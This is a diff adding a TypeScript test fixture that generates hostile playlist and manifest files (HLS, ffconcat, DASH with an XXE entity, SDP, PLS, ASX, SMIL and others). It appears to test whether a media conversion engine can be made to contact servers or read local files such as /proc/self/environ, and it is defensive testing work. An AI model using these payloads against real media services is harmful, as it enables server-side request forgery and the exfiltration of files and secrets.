@@ -1,0 +1,80 @@
+/** Lists that name other films, in every language players understand. */
+import type { FormatId } from '@filesmith/contract/formats'
+import { type HostileFile, hostile, type Targets } from './hostile-file.ts'
+
+/** A film, a recording and a picture that moves: whatever an engine may be told that a list is. */
+const told: readonly FormatId[] = ['mp4', 'avi', 'ts', 'mpeg', 'mp3', 'wav', 'gif']
+
+export function playlists({
+  http,
+  http6,
+  udp,
+  film,
+  recording,
+  text,
+  beside,
+  unixSocket,
+}: Targets): HostileFile[] {
+  const list = (what: string, fileName: string, content: string) =>
+    hostile('reach', what, fileName, content, told)
+  const hls = (...entries: readonly string[]) =>
+    `#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n${entries.map(entry => `#EXTINF:1.0,\n${entry}\n`).join('')}#EXT-X-ENDLIST\n`
+  return [
+    list('m3u8: a server', 'film.mp4', hls(`${http}/a.ts`, `${http6}/b.ts`)),
+    list('m3u8: a film on the disk', 'film.mp4', hls(film, `file://${film}`, beside.film)),
+    list(
+      'm3u8: a file carried to a server',
+      'film.avi',
+      hls(
+        `concat:${http}/head|subfile,,start,0,end,99,,:${text}|`,
+        `crypto+file://${text}`,
+        `data:text/plain,${text}`,
+      ),
+    ),
+    list(
+      'm3u8: a key from a server',
+      'film.mp4',
+      `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="${http}/key"\n#EXT-X-MAP:URI="file://${text}"\n#EXTINF:1,\n${film}\n#EXT-X-ENDLIST\n`,
+    ),
+    list(
+      'ffconcat: a film on the disk',
+      'film.mkv',
+      `ffconcat version 1.0\nfile '${film}'\nfile '${http}/b.ts'\n`,
+    ),
+    list('concat without its first line', 'film.mkv', `file '${film}'\nduration 1\nfile '${http}/b.ts'\n`),
+    list(
+      'mpd: a server and the disk',
+      'film.mp4',
+      `<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "file://${text}">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>${http}/v.mp4</BaseURL></Representation><Representation id="2" bandwidth="2"><BaseURL>file://${film}</BaseURL></Representation></AdaptationSet></Period>&x;</MPD>`,
+    ),
+    list(
+      'sdp: a stream to listen to',
+      'film.mp4',
+      `v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video ${udp.split(':')[1]} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n`,
+    ),
+    list(
+      'pls',
+      'song.mp3',
+      `[playlist]\nNumberOfEntries=2\nFile1=${http}/a.mp3\nFile2=${recording}\nVersion=2\n`,
+    ),
+    list('cue', 'song.wav', `FILE "${recording}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n`),
+    list(
+      'asx',
+      'film.wmv',
+      `<asx version="3.0"><entry><ref href="${http}/a.wmv"/></entry><entryref href="file://${film}"/></asx>`,
+    ),
+    list('asf reference', 'film.wmv', `[Reference]\r\nRef1=${http}/a.asf\r\nRef2=file://${film}\r\n`),
+    list(
+      'smil',
+      'film.mp4',
+      `<smil><body><video src="${http}/a.mp4"/><video src="file://${film}"/><video src="rtsp://${udp}/x"/></body></smil>`,
+    ),
+    list(
+      'xspf',
+      'song.mp3',
+      `<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>${http}/a.mp3</location></track></trackList></playlist>`,
+    ),
+    list('an address by itself', 'film.mp4', `udp://${udp}\nunix://${unixSocket}\n${http}/x.mp4\n`),
+    list('image sequence', 'film.mp4', `%d.png\n${film}\n/proc/self/environ\n`),
+  ]
+}
